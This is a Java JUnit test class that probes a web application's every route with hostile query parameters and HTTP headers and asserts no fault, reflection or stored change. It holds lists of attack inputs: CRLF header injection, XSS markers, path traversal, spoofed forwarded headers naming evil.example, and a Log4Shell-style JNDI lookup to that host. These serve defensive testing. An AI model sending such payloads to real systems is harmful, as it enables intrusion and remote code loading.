/* SPDX-License-Identifier: EUPL-1.2 */
package org.luwte.st;

import java.util.List;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.luwte.attack.Answers;
import org.luwte.attack.Attacker;
import org.luwte.attack.RawAnswer;
import org.luwte.attack.RawHttp;
import org.luwte.attack.SiteRoute;
import org.luwte.attack.Stored;
import org.luwte.stack.HtmlForm;

/** Queries, headers and bodies that no page of ours sends, for every page: no fault, nothing of it comes back, nothing is stored. */
class HostileParametersST {

    private static final String EVIL = "evil.example";

    private Stored before;

    @BeforeEach
    void look() {
        Attacker.come();
        before = Stored.now();
    }

    @AfterEach
    void nothingWasStored() {
        before.assertUnchanged("hostile parameters");
    }

    @ParameterizedTest
    @EnumSource
    void strangeQueriesAreNoFault(Attacker attacker) {
        SoftAssertions softly = new SoftAssertions();
        for (SiteRoute route : SiteRoute.all()) {
            for (String query : queries()) {
                String page = route.address(Attacker.texts());
                String address = page + (page.contains("?") ? "&" : "?") + query;
                RawAnswer answer = attacker.as(RawHttp.get(address)).send();
                Answers.discreet(softly, address, answer);
                softly.assertThat(answer.headers().keySet()).as(address).doesNotContain("x-injected");
                softly.assertThat(answer.body()).as(address).doesNotContain("<lwxss", "onlwxss=");
            }
        }
        softly.assertAll();
    }

    private static List<String> queries() {
        return List.of(
                "page=abc",
                "page=-1",
                "page=0",
                "page=99999999999999999999",
                "page=1e3",
                "page=%00",
                "page=%ff%fe",
                "page=%zz",
                "page[]=1&page[x]=2",
                "page=1&page=2&page=" + "9".repeat(2_000),
                "page=%D9%A1",
                "done=topic&done=%3Clwxss%3E",
                "done=%22%20onlwxss=%22",
                "done=../refusals",
                "error=%0d%0aX-Injected:%20y",
                "%0d%0aX-Injected:%20y=1",
                "handle=stille-kamer&code=x&state=y",
                "code=x",
                "state=%00",
                "jakarta.faces.ViewState=stateless",
                "jakarta.faces.ViewState=e1s1&jakarta.faces.source=write:send",
                "jakarta.faces.ViewState=-1:-1&write=write&write:send=send",
                "jakarta.faces.partial.ajax=true&jakarta.faces.partial.execute=@all&jakarta.faces.source=x",
                "jakarta.faces.behavior.event=x&jakarta.faces.ClientWindow=../x",
                "primefaces.download=1&primefaces.nonce=%22%3E%3Clwxss%3E",
                "&&&===&",
                "=",
                "%",
                "a".repeat(4_000) + "=1",
                "x=" + "%F0%9F%98%80".repeat(200));
    }

    /** A form sent by a link, with everything the page itself would send. */
    @ParameterizedTest
    @EnumSource(names = "MEMBER")
    void nothingIsSentByALink(Attacker attacker) {
        SoftAssertions softly = new SoftAssertions();
        var member = Attacker.texts().writer().visitor();
        String page = member.get("/group/eigen-ruimte/write").body();
        StringBuilder query = new StringBuilder("?write:title=Niet&write:text=Niet&write:send=send");
        HtmlForm.byId(page, "write")
                .fields()
                .forEach((name, value) -> query.append('&')
                        .append(name)
                        .append('=')
                        .append(java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8)));
        before = Stored.now();

        RawAnswer answer =
                attacker.as(RawHttp.get("/group/eigen-ruimte/write" + query)).send();

        softly.assertThat(answer.status()).isIn(200, 400, 403, 404, 409);
        softly.assertAll();
    }

    @ParameterizedTest
    @EnumSource
    void hostileHeadersChangeNothing(Attacker attacker) {
        SoftAssertions softly = new SoftAssertions();
        for (String path :
                List.of("/", "/groups", "/en/help", "/me", "/no-such-page", "/groups/", "/sign-out", "/enter")) {
            for (String header : headers()) {
                int colon = header.indexOf(':');
                RawAnswer answer = attacker.as(
                                RawHttp.get(path).with(header.substring(0, colon), header.substring(colon + 1)))
                        .send();
                String how = header + " " + path;
                Answers.discreet(softly, how, answer);
                softly.assertThat(answer.headers().toString()).as(how).doesNotContain(EVIL, "X-Injected");
                softly.assertThat(answer.body()).as(how).doesNotContain(EVIL, "<lwxss");
                softly.assertThat(answer.headers().keySet()).as(how).doesNotContain("access-control-allow-origin");
            }
        }
        softly.assertAll();
    }

    private static List<String> headers() {
        return List.of(
                "X-Forwarded-For:" + EVIL,
                "X-Forwarded-For:127.0.0.1, 10.0.0.1",
                "X-Forwarded-Host:" + EVIL,
                "X-Forwarded-Proto:javascript",
                "X-Forwarded-Port:99999",
                "X-Forwarded-Prefix://" + EVIL,
                "Forwarded:for=1.2.3.4;host=" + EVIL + ";proto=https",
                "X-Original-URL:/admin",
                "X-Rewrite-URL:/WEB-INF/web.xml",
                "X-Real-IP:" + EVIL,
                "X-Host:" + EVIL,
                "Referer:https://" + EVIL + "/%0d%0a",
                "Origin:https://" + EVIL,
                "Origin:null",
                "Accept-Language:\u0085nl\u2028X-Injected: y",
                "Accept-Language:" + "nl;q=0.1,".repeat(500) + "xx",
                "Accept-Language:../../WEB-INF",
                "Accept:*/*;q=%n%n%s",
                "User-Agent:${jndi:ldap://" + EVIL + "/a}",
                "User-Agent:<lwxss>",
                "Content-Type:application/x-www-form-urlencoded; charset=nothing-such",
                "If-Modified-Since:never",
                "Range:bytes=0-0,-1",
                "Expect:200-nothing",
                "Upgrade:h2c",
                "SOAPAction:x",
                "Faces-Request:partial/ajax",
                "Cookie2:$Version=1");
    }
}
